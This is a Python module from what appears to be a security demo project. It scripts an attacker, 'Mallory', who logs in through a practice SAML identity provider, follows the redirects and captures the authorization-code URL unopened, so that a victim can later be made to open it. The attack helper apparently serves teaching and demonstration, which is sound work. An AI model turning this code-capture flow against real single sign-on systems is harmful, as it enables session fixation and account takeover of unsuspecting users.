"""Mallory's own browser, in a few lines: it logs in as Mallory, honestly, and stops at the last redirect.

What it brings back is the address at which the application would have found Mallory's code. Whoever opens that
address delivers the code; that is the attack.
"""

from collections.abc import Mapping
from http.cookies import SimpleCookie
from urllib.parse import parse_qs, urljoin, urlsplit

import httpx2

from vestibule.demo.configuration import sso_url
from vestibule.demo.idp import PracticeIdp
from vestibule.demo.people import MALLORY
from vestibule.demo.places import Places
from vestibule.ground.errors import Refused

MOST_HOPS = 20


class MalloryBrowser:
    """One login, one jar of cookies. Secure cookies are kept on loopback names, as Chromium does."""

    def __init__(self, *, places: Places, idp: PracticeIdp, http: httpx2.AsyncClient) -> None:
        self._places = places
        self._idp = idp
        self._http = http
        self._jar: dict[str, dict[str, str]] = {}

    async def code_address(self) -> str:
        """The address, code and all, that the login as Mallory ends at. Not opened: the code is still good."""
        response = await self._post(self._idp.announce(MALLORY, relay_state=None))
        for _ in range(MOST_HOPS):
            location = response.headers.get("Location")
            if not response.is_redirect or location is None:
                break
            url = urljoin(str(response.request.url), location)
            query = parse_qs(urlsplit(url).query)
            if "code" in query:
                return url
            response = await self._go(url, query)
        raise Refused(
            "demo.attack",
            "Mallory's own login did not end in a code. Go back to the portal, and start the attack from its page again.",
        )

    async def _go(self, url: str, query: Mapping[str, list[str]]) -> httpx2.Response:
        if not url.startswith(sso_url(self._places)):
            return await self._send(httpx2.Request("GET", url))
        asked = self._idp.read(query.get("SAMLRequest", [""])[0])
        relay_state = query.get("RelayState", [None])[0]
        return await self._post(self._idp.answer(asked, MALLORY, relay_state=relay_state))

    async def _post(self, fields: Mapping[str, str]) -> httpx2.Response:
        headers = {"Origin": self._places.portal.origin}
        return await self._send(httpx2.Request("POST", self._idp.acs_url, data=dict(fields), headers=headers))

    async def _send(self, request: httpx2.Request) -> httpx2.Response:
        jar = self._jar.setdefault(request.url.host, {})
        if jar:
            request.headers["Cookie"] = "; ".join(f"{name}={value}" for name, value in jar.items())
        request.headers["User-Agent"] = self._http.headers["User-Agent"]
        response = await self._http.send(request)
        for line in response.headers.get_list("Set-Cookie"):
            for name, morsel in SimpleCookie(line).items():
                jar.pop(name, None)
                if morsel.value and morsel["max-age"] != "0":
                    jar[name] = morsel.value
        return response
